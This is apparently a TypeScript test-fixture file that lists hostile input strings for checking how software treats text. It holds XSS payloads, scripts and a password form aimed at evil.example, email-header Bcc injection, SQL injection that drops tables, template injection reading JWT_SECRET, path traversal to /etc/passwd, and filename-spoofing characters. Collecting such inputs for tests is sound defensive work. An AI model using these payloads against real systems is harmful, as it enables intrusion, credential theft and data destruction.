/** Texts that do harm if they are interpreted as markup, addresses, headers, queries or templates. */
export const HOSTILE = [
  // Markup that runs
  '<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</script><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt/src=//evil.example/x.js>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">click me</a>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '`><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  // Addresses
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//evil.example/path',
  'file:///etc/passwd',
  // Headers and lines
  'Rose\r\nBcc: eve@evil.example',
  'Rose\nX-Injected: yes',
  'Rose\r\n\r\n<b>body</b>',
  'Rose\r\n.\r\nMAIL FROM:<eve@evil.example>',
  'Rose\u2028Bcc: eve@evil.example',
  '=?utf-8?Q?=0D=0ABcc:_eve@evil.example?=',
  // Queries
  "'; DROP TABLE users; --",
  "' OR '1'='1",
  '1); DELETE FROM properties; --',
  '%_\\%_',
  // Templates, formulas, formats, objects
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}${process.env.JWT_SECRET}',
  '<%= 7*7 %>',
  '#{7*7}',
  '$& $1 $` $$',
  '%s%s%n%x',
  '=HYPERLINK("//evil.example","x")',
  '__proto__',
  'constructor',
  '../../../../etc/passwd',
  // Writing
  'abc\u202Egnp.exe\u202C',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe',
  'Z\u0351\u036B\u0343\u036A\u0302a\u0300\u0301\u0302\u0303\u0304\u0305l\u0334\u0335\u0336go',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F4}\u{E0067}\u{E0062}\u{E007F}',
  'W'.repeat(100),
  'مرحبا بالعالم שלום עולם',
] as const;

/** One text for markup, queries, templates, formulas and formats, short enough for a name. */
export const EVERYTHING = `"'><script>alert(1)</script>;--%_\${7*7}{{7*7}}<%=7%>&lt;b&gt;$&%s<img src=x onerror=alert(1)>`;

/** No lines: they have line breaks, or characters that are invisible or turn the direction. */
export const NOT_LINES: readonly string[] = HOSTILE.filter((text) =>
  /^Rose[\r\n\u2028]|^abc\u202E|^a\u200B/.test(text),
);

/** No names: no lines, a web address, or too few letters and digits. */
export const NOT_NAMES: readonly string[] = [
  ...NOT_LINES,
  'file:///etc/passwd',
  '%_\\%_',
  '$& $1 $` $$',
  ...HOSTILE.filter((text) => text.startsWith('\u{1F469}')),
];

/** Not even allowed in texts of several lines. */
export const NOT_PROSE: readonly string[] = HOSTILE.filter((text) => text.startsWith('abc\u202E'));
